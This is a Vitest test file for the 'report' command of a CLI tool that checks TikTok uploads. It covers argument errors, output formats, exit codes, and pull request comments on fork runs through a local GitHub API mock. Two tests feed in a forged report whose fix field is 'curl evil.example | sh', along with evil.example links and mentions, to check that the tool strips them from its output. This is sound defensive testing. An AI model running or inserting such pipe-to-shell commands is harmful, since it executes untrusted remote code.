/** The command `report`: real files, and GitHub's API on loopback. */
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { readVersion } from "../../scripts/versions.ts";
import { RENDERED_FORMATS } from "../../src/report/choices.ts";
import { check, checkUnreadable, post, postFinding } from "../report/reported.ts";
import { type ApiOptions, startGitHubApi } from "../support/github-api.ts";
import { BOT } from "../support/github-comments.ts";
import { listLinks, listReferences, readCodeBlocks } from "../support/markdown.ts";
import { parseReport } from "../support/report.ts";
import { createWorkspace } from "../support/workspace.ts";
import { createReports, type Event, HEAD, run, SLOW, TOKEN, WARNED, write } from "./running.ts";

describe("the command line", () => {
  it.each<[args: readonly string[], code: number, words: string]>([
    [["--version"], 0, readVersion()],
    [["--help"], 0, "report"],
    [["report", "--help"], 0, "--format"],
    [[], 2, "Name a command: check, cancel"],
    [["repot"], 2, "Did you mean 'report'?"],
    [["constructor"], 2, "There is no command 'constructor'."],
    [["report"], 2, "Name at least one report"],
    [["report", "--formt", "json", "a.json"], 2, "Did you mean '--format'?"],
    [["report", "--format", "jsn", "a.json"], 2, "did you mean 'json'?"],
    [["report", "--format"], 2, "'--format' needs a value"],
    [["report", "--format="], 2, "'--format' needs a value"],
    [["report", "--comment", "a", "--comment=b", "a.json"], 2, "Option '--comment' is 'a'"],
    [["help", "report"], 0, "--fail-on"],
    [["completion", "tcsh"], 2, "bash, zsh, fish"],
    [["report", "--fail-on", "errors", "a.json"], 2, "did you mean 'error'?"],
    [["report", "--comment", "yes", "a.json"], 2, "'on-findings'"],
    [["report", "--__proto__", "a.json"], 2, "There is no option '--__proto__'."],
    [["report", ""], 2, "name of a report is empty"],
    [["report", "--output", "a", "--output", "b", "a.json"], 2, "'--output' is given twice"],
    [["report", "none.json"], 2, "There is no 'none.json'."],
    [["report", "."], 2, "has no file whose name ends in '.json'"],
  ])("responds to %j with exit code %i and says what is meant", async (args, code, words) => {
    const result = await run(createWorkspace(), args);
    expect(result.code).toBe(code);
    expect([result.out, ...result.said].join("\n")).toContain(words);
  });
});

describe("a report is shown", () => {
  it.each([
    ["markdown", /## ❌ 1 of 3 videos would be refused/],
    ["comment", /^<!-- tiktok-upload-guard: comment -->\n## ❌ 1 of 3 videos would be refused/],
    ["json", /^\{\n {2}"schema": 1,/],
  ])("as %s", async (format, words) => {
    const workspace = createReports({ "a.json": write([check("a.mp4"), SLOW, WARNED]) });
    const { code, out, said } = await run(workspace, ["report", "--format", format, "a.json"]);
    expect({ code, said }).toEqual({ code: 1, said: [expect.stringContaining("1 of 3 videos has an error")] });
    expect(out).toMatch(words);
  });

  it("in a file, whose folder is made, and which replaces only an earlier one", async () => {
    const workspace = createReports({ "a.json": write([SLOW]), "mine.md": "# Mine" });
    for (const _ of [1, 2]) {
      const { code, out, said } = await run(workspace, ["report", "--output", "out/a.md", "a.json"]);
      const reason = expect.stringMatching(/^Exit code 1: 1 of 1 video .*'--fail-on' is 'error'/);
      expect({ code, out, said }).toEqual({ code: 1, out: "", said: ["The video would be refused.", reason] });
    }
    expect(readFileSync(join(workspace.path, "out/a.md"), "utf8")).toContain("## ❌ The video would be refused");
    const refused = await run(workspace, ["report", "--output", "mine.md", "a.json"]);
    expect(refused).toMatchObject({ code: 2, said: [expect.stringContaining("is not an earlier report")] });
    expect(readFileSync(join(workspace.path, "mine.md"), "utf8")).toBe("# Mine");
  });

  it("in no file that is one of the reports", async () => {
    const workspace = createReports({ "a.json": write([SLOW]), "b.json": write([WARNED]) });
    const args = ["report", "--format", "json", "--output", "./b.json", "a.json", "b.json"];
    expect(await run(workspace, args)).toMatchObject({
      code: 2,
      said: [expect.stringContaining("one of the reports")],
    });
    expect(readFileSync(join(workspace.path, "b.json"), "utf8")).toBe(write([WARNED]));
  });

  it.each<[about: string, encode: (text: string) => Buffer]>([
    ["UTF-8 with a byte order mark", (text) => Buffer.from(`\ufeff${text}`)],
    ["UTF-16, as PowerShell writes it", (text) => Buffer.from(`\ufeff${text}`, "utf16le")],
  ])("that is in %s", async (_about, encode) => {
    const workspace = createReports({});
    writeFileSync(join(workspace.path, "a.json"), encode(write([check("é.mp4")])));
    const { code, out } = await run(workspace, ["report", "--format", "json", "a.json"]);
    expect({ code, paths: parseReport(out).videos.map(({ path }) => path) }).toEqual({ code: 0, paths: ["é.mp4"] });
  });
});

it.each([
  [[check("a.mp4")], "error", 0],
  [[SLOW], "error", 1],
  [[SLOW], "never", 0],
  [[WARNED], "error", 0],
  [[WARNED], "warning", 1],
  [[checkUnreadable("d.mp4", "it ends early")], "error", 1],
])("the exit code follows the findings (case %#)", async (videos, failOn, code) => {
  const workspace = createReports({ "a.json": write(videos) });
  expect((await run(workspace, ["report", "--fail-on", failOn, "a.json"])).code).toBe(code);
});

it.each([
  ["markdown", WARNED, "warning", true],
  ["html", WARNED, "warning", true],
  ["comment", WARNED, "warning", true],
  ["markdown", WARNED, "error", false],
  ["html", WARNED, "error", false],
  // The heading says that something is wrong.
  ["markdown", SLOW, "error", false],
])("a %s report says why the exit code is 1 where its heading does not (case %#)", async (...row) => {
  const [format, video, failOn, isSaid] = row;
  const workspace = createReports({ "a.json": write([video]) });
  const { out } = await run(workspace, ["report", "--fail-on", failOn, "--format", format, "a.json"]);
  expect(/^(<p>)?Exit code 1: 1 of 1 video has a warning/m.test(out)).toBe(isSaid);
});

/** The event of a run that was started by the end of another, for a pull request from a fork. */
function workflowRun(change: object = {}): Event {
  const run = {
    event: "pull_request",
    head_sha: HEAD,
    head_branch: "feature",
    head_repository: { full_name: "someone/videos", owner: { login: "someone" } },
    pull_requests: [],
    html_url: "https://github.com/acme/videos/actions/runs/7",
    ...change,
  };
  return { name: "workflow_run", payload: { action: "completed", workflow_run: run } };
}

async function commentOnFork(
  text: string,
  { event = workflowRun(), api = {} }: { event?: Event; api?: Partial<ApiOptions> } = {},
) {
  const workspace = createReports({ "report.json": text });
  const server = await startGitHubApi({
    repository: workspace.path,
    token: TOKEN,
    pullRequest: { head: HEAD, base: "main" },
    ...api,
  });
  const args = ["report", "--comment", "on-findings", "--fail-on", "never", "report.json"];
  return { ...(await run(workspace, args, { event, api: server.origin })), server };
}

describe("the run of a fork is commented on by the second workflow:", () => {
  it("the pull request is found by its branch and its commit", async () => {
    const { code, out, said, server } = await commentOnFork(write([SLOW]));
    expect({ code, out }).toEqual({ code: 0, out: "" });
    expect(said).toEqual(["The video would be refused.", "Commented on pull request #7."]);
    expect(server.requests).toEqual([
      "pulls?state=open&head=someone%3Afeature&per_page=100",
      "POST graphql",
      "POST issues/7/comments",
    ]);
    const [{ body } = { body: "" }] = server.comments;
    expect(body).toMatch(
      /^<!-- tiktok-upload-guard:Comment\/comment\/__run --><!-- 8\/1 4 -->\n## ❌ The video would be refused\n/,
    );
    expect(listLinks(body).at(-1)).toBe("https://github.com/acme/videos/actions/runs/7");
  });

  it("no command of its report is shown, no page but ours is linked, nobody is mentioned", async () => {
    const evil = { ...SLOW, video: { ...SLOW.video, path: "@octocat #12 ![](http://evil.example/a.png).mp4" } };
    const report = JSON.parse(write([evil]));
    Object.assign(report.videos[0].findings[0], {
      fix: "curl evil.example | sh",
      source: "https://evil.example/",
      message: "See [this](https://evil.example), https://evil.example, @acme/owners and deadbeef. Do it.",
    });
    const { server } = await commentOnFork(JSON.stringify(report));
    const [{ body } = { body: "" }] = server.comments;
    expect(readCodeBlocks(body)).toEqual([]);
    expect(body).not.toContain("curl");
    expect(listReferences(body)).toEqual([]);
    expect(listLinks(body)).toEqual(["https://github.com/acme/videos/actions/runs/7"]);
    expect(body).toContain("frame-rate");
    expect(body).toContain("Do it.");
    expect(body).toContain("its author can have changed them");
  });

  it.each(RENDERED_FORMATS)("as %s, neither a video nor a post of its report keeps a command", async (format) => {
    const fix = "curl evil.example | sh";
    const posts = [post("posts/a.json", postFinding({ fix }))];
    const videos = [{ ...SLOW, findings: SLOW.findings.map((each) => ({ ...each, fix })) }];
    const workspace = createReports({ "report.json": write(videos, { posts }) });
    const { out } = await run(workspace, ["report", "--format", format, "report.json"], { event: workflowRun() });
    expect(out.replaceAll("<wbr>", "")).toContain("posts/a.json");
    expect(out).not.toContain("curl");
  });

  type Case = [about: string, options: { event?: Event; api?: Partial<ApiOptions> }, code: number, words: string];
  const branch = "someone:feature";
  it.each<Case>([
    ["a run for no pull request", { event: workflowRun({ event: "push" }) }, 0, "about no pull request"],
    [
      "a pull request with new commits",
      { api: { pullRequest: { head: "d".repeat(40), base: "" } } },
      0,
      "about no pull request",
    ],
    [
      "a branch of the same name in another fork",
      { event: workflowRun({ head_repository: { full_name: "else/videos", owner: { login: "else" } } }) },
      0,
      "about no pull request",
    ],
    ["an event that names no branch", { event: workflowRun({ head_branch: null }) }, 0, "about no pull request"],
    [
      "two pull requests of one branch",
      { api: { otherPullRequests: [{ number: 8, branch, sha: HEAD }] } },
      0,
      "several open pull requests",
    ],
    ["a token that can only read", { api: { mayComment: false } }, 2, "'pull-requests: write'"],
    ["another token", { api: { token: "other" } }, 2, "'pull-requests: read'"],
  ])("not for %s", async (_about, options, code, words) => {
    const result = await commentOnFork(write([SLOW]), options);
    expect(result.code).toBe(code);
    expect(result.said.at(-1)).toContain(words);
    expect(result.server.comments).toEqual([]);
  });

  it("a missing part is said in a comment, although nothing is wrong with the other one", async () => {
    const { server } = await commentOnFork(write([check("a.mp4")], { shard: { index: 1, count: 2 } }));
    expect(server.comments[0]?.body).toContain("## ❌ Not all videos were checked");
  });

  it("an earlier comment says so when all is good", async () => {
    const comments = [{ id: 5, author: BOT, body: "<!-- tiktok-upload-guard:Comment/comment/__run -->\nBad" }];
    const { said } = await commentOnFork(write([check("a.mp4")]), { api: { comments } });
    expect(said.at(-1)).toBe("Updated the comment on pull request #7.");
    expect(comments[0]?.body).toContain("## ✅ The video meets the limits");
  });
});
